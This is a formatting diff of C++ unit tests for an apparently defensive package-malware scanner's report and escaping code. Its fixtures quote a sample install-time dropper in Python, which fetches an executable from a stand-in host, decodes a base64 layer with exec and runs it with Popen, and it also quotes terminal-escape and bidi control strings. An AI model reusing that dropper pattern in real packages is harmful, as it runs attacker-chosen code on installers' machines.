@@ -4,8 +4,8 @@
 
 #include <nlohmann/json.hpp>
 
-#include "facts/text.h"
 #include "base/escape.h"
+#include "facts/text.h"
 
 namespace antivenom {
 namespace {
@@ -13,11 +13,11 @@ namespace {
 using nlohmann::json;
 
 const Rule kDrop{.category = Category::code_execution,
-                     .weight = Weight::hostile,
-                     .summary = "download a program and run it",
-                     .why = "Whoever holds the server chooses what runs.",
-                     .careful = "Installers name the file and check its hash.",
-                     .attack = {"T1105", "T1204"}};
+                 .weight = Weight::hostile,
+                 .summary = "download a program and run it",
+                 .why = "Whoever holds the server chooses what runs.",
+                 .careful = "Installers name the file and check its hash.",
+                 .attack = {"T1105", "T1204"}};
 constexpr Rule kHide{.kind = RuleKind::evasion, .weight = Weight::suspicious, .summary = "hide its code in layers"};
 constexpr Rule kNet{.category = Category::remote_control, .weight = Weight::context, .summary = "use the network"};
 
@@ -35,12 +35,23 @@ indicator type="domain" value="localhost" place=0:0:4-4 benign_looking=true
 )");
   EXPECT_TRUE(facts) << facts.error().message();
   result.facts = std::move(*facts);
-  result.lines = {{{0, 0, 3, 3}, "u = urlopen('http://a.example.invalid/x.exe')"}, {{0, 0, 7, 7}, "exec(b64decode(P))"},
+  result.lines = {{{0, 0, 3, 3}, "u = urlopen('http://a.example.invalid/x.exe')"},
+                  {{0, 0, 7, 7}, "exec(b64decode(P))"},
                   {{0, 1, 1, 1}, "  Popen(u)"}};
   std::vector<Finding> findings = {
-      {"execution/drop", &kDrop, 0.9, Weight::hostile, Trigger::install, Reach::entry,
+      {"execution/drop",
+       &kDrop,
+       0.9,
+       Weight::hostile,
+       Trigger::install,
+       Reach::entry,
        {{{0, 0, 3, 3}, 0, "downloads \x1b[31m it"}, {{0, 1, 1, 1}, 1, "runs it"}}},
-      {"evasion/code-obfuscation", &kHide, 0.8, Weight::suspicious, Trigger::install, Reach::entry,
+      {"evasion/code-obfuscation",
+       &kHide,
+       0.8,
+       Weight::suspicious,
+       Trigger::install,
+       Reach::entry,
        {{{0, 0, 7, 7}, UINT32_MAX, "opens a layer"}}},
       {"net/use", &kNet, 1, Weight::context, Trigger::install, Reach::entry, {{{0, 0, 3, 3}, 0, "fetches"}}}};
   result.verdict = judge(result.facts, findings);
@@ -101,7 +112,9 @@ TEST(TextReport, explain_marks_malicious_lines_and_shows_layers) {
     >     7 | exec(b64decode(P))
     setup.py (layer 1)
     >     1 |   Popen(u)
-)"), std::string::npos) << text;
+)"),
+            std::string::npos)
+      << text;
   EXPECT_NE(text.find("        | print('x')\n"), std::string::npos) << text;
 }
 
@@ -120,23 +133,24 @@ TEST(TextReport, totals) {
 }
 
 TEST(JsonReport, schema_1) {
-  EXPECT_EQ(to_json(sample(), {.show_layers = true, .api_sequence = true}),
-            R"J({"schema":1,"artifact":{"path":"dist/demo 1.tar.gz","name":"demo","version":"1.0","kind":"sdist",)J"
-            R"J("sha256":"ab12","bytes":900},"verdict":"malicious","score":0.9977,"threshold":{"malicious":0.8,)J"
-            R"J("suspicious":0.4},"summary":"At install, this package may download a program and run it. It may also )J"
-            R"J(hide its code in layers.","behaviours":[{"id":"execution/drop","category":"code-execution",)J"
-            R"J("confidence":0.9,"trigger":"install","attack":["T1105","T1204"],"evidence":[{"file":"setup.py","line":3,)J"
-            R"J("end_line":3,"layer":0,"code":"u = urlopen('http://a.example.invalid/x.exe')",)J"
-            R"J("why":"downloads \u001b[31m it"},{"file":"setup.py","line":1,"end_line":1,"layer":1,"code":"  Popen(u)",)J"
-            R"J("why":"runs it"}]}],"evasions":[{"id":"code-obfuscation","confidence":0.8,"trigger":"install",)J"
-            R"J("attack":[],"evidence":[{"file":"setup.py","line":7,"end_line":7,"layer":0,"code":"exec(b64decode(P))",)J"
-            R"J("why":"opens a layer"}]}],"platforms":[],"triggers":["install"],"indicators":[{"type":"url",)J"
-            R"J("value":"http://a.example.invalid/x.exe","file":"setup.py","line":3,"layer":0}],"layers":[{"id":1,)J"
-            R"J("parent":0,"how":["base64","exec"],"file":"setup.py","line":7,"bytes":11,"language":"python",)J"
-            R"J("text":"print('x')\n"}],"api_sequence":[{"call":"urllib.request.urlopen","file":"setup.py","line":3,)J"
-            R"J("layer":0,"trigger":"install"},{"call":"subprocess.Popen","file":"setup.py","line":1,"layer":1,)J"
-            R"J("trigger":"install"}],"metrics":{"files":2,"python_files":1,"python_lines":10,"max_depth":1,)J"
-            R"J("malicious_lines":2,"density":0.2},"errors":[{"file":"data.bin","reason":"too large"}],"elapsed_ms":1.5})J");
+  EXPECT_EQ(
+      to_json(sample(), {.show_layers = true, .api_sequence = true}),
+      R"J({"schema":1,"artifact":{"path":"dist/demo 1.tar.gz","name":"demo","version":"1.0","kind":"sdist",)J"
+      R"J("sha256":"ab12","bytes":900},"verdict":"malicious","score":0.9977,"threshold":{"malicious":0.8,)J"
+      R"J("suspicious":0.4},"summary":"At install, this package may download a program and run it. It may also )J"
+      R"J(hide its code in layers.","behaviours":[{"id":"execution/drop","category":"code-execution",)J"
+      R"J("confidence":0.9,"trigger":"install","attack":["T1105","T1204"],"evidence":[{"file":"setup.py","line":3,)J"
+      R"J("end_line":3,"layer":0,"code":"u = urlopen('http://a.example.invalid/x.exe')",)J"
+      R"J("why":"downloads \u001b[31m it"},{"file":"setup.py","line":1,"end_line":1,"layer":1,"code":"  Popen(u)",)J"
+      R"J("why":"runs it"}]}],"evasions":[{"id":"code-obfuscation","confidence":0.8,"trigger":"install",)J"
+      R"J("attack":[],"evidence":[{"file":"setup.py","line":7,"end_line":7,"layer":0,"code":"exec(b64decode(P))",)J"
+      R"J("why":"opens a layer"}]}],"platforms":[],"triggers":["install"],"indicators":[{"type":"url",)J"
+      R"J("value":"http://a.example.invalid/x.exe","file":"setup.py","line":3,"layer":0}],"layers":[{"id":1,)J"
+      R"J("parent":0,"how":["base64","exec"],"file":"setup.py","line":7,"bytes":11,"language":"python",)J"
+      R"J("text":"print('x')\n"}],"api_sequence":[{"call":"urllib.request.urlopen","file":"setup.py","line":3,)J"
+      R"J("layer":0,"trigger":"install"},{"call":"subprocess.Popen","file":"setup.py","line":1,"layer":1,)J"
+      R"J("trigger":"install"}],"metrics":{"files":2,"python_files":1,"python_lines":10,"max_depth":1,)J"
+      R"J("malicious_lines":2,"density":0.2},"errors":[{"file":"data.bin","reason":"too large"}],"elapsed_ms":1.5})J");
 }
 
 TEST(JsonReport, hostile_values_stay_valid_json_on_one_line) {
@@ -154,8 +168,8 @@ TEST(JsonReport, hostile_values_stay_valid_json_on_one_line) {
 
 TEST(JsonReport, empty_result_has_every_key) {
   const json parsed = json::parse(to_json(ScanResult{}, {}));
-  for (const char* key : {"schema", "artifact", "verdict", "score", "threshold", "summary", "behaviours", "evasions", "platforms",
-                          "triggers", "indicators", "layers", "metrics", "errors", "elapsed_ms"}) {
+  for (const char* key : {"schema", "artifact", "verdict", "score", "threshold", "summary", "behaviours", "evasions",
+                          "platforms", "triggers", "indicators", "layers", "metrics", "errors", "elapsed_ms"}) {
     EXPECT_TRUE(parsed.contains(key)) << key;
   }
 }
@@ -234,11 +248,15 @@ TEST(Escape, text_cannot_steer_a_terminal_or_reorder_itself) {
   EXPECT_EQ(visible("a\x1b[2J\x07\r\n\tb\x7f"), "a\\x1b[2J\\x07\\x0d\\x0a b\\x7f");
   EXPECT_EQ(visible("x\u202Ey\u200Bz\uFEFF\U000E0041"), "x\\u{202e}y\\u{200b}z\\u{feff}\\u{0e0041}");
   EXPECT_EQ(visible("\xff\xc0\x80\xed\xa0\x80\xf5é\xe2\x82"), "\\xff\\xc0\\x80\\xed\\xa0\\x80\\xf5é\\xe2\\x82");
-  EXPECT_EQ(visible("\xc2\x9b" "31m"), "\\u{009b}31m");
+  EXPECT_EQ(visible("\xc2\x9b"
+                    "31m"),
+            "\\u{009b}31m");
   EXPECT_EQ(visible("äöü", 2), "äö...");
   EXPECT_EQ(visible(visible("\x1b\u202e")), visible("\x1b\u202e"));
   EXPECT_EQ(visible_lines("a\nb\x1b"), "a\nb\\x1b");
-  EXPECT_EQ(valid_utf8("a\xff" "b"), "a\uFFFDb");
+  EXPECT_EQ(valid_utf8("a\xff"
+                       "b"),
+            "a\uFFFDb");
 }
 
 TEST(Escape, indicators_cannot_be_opened_by_accident) {
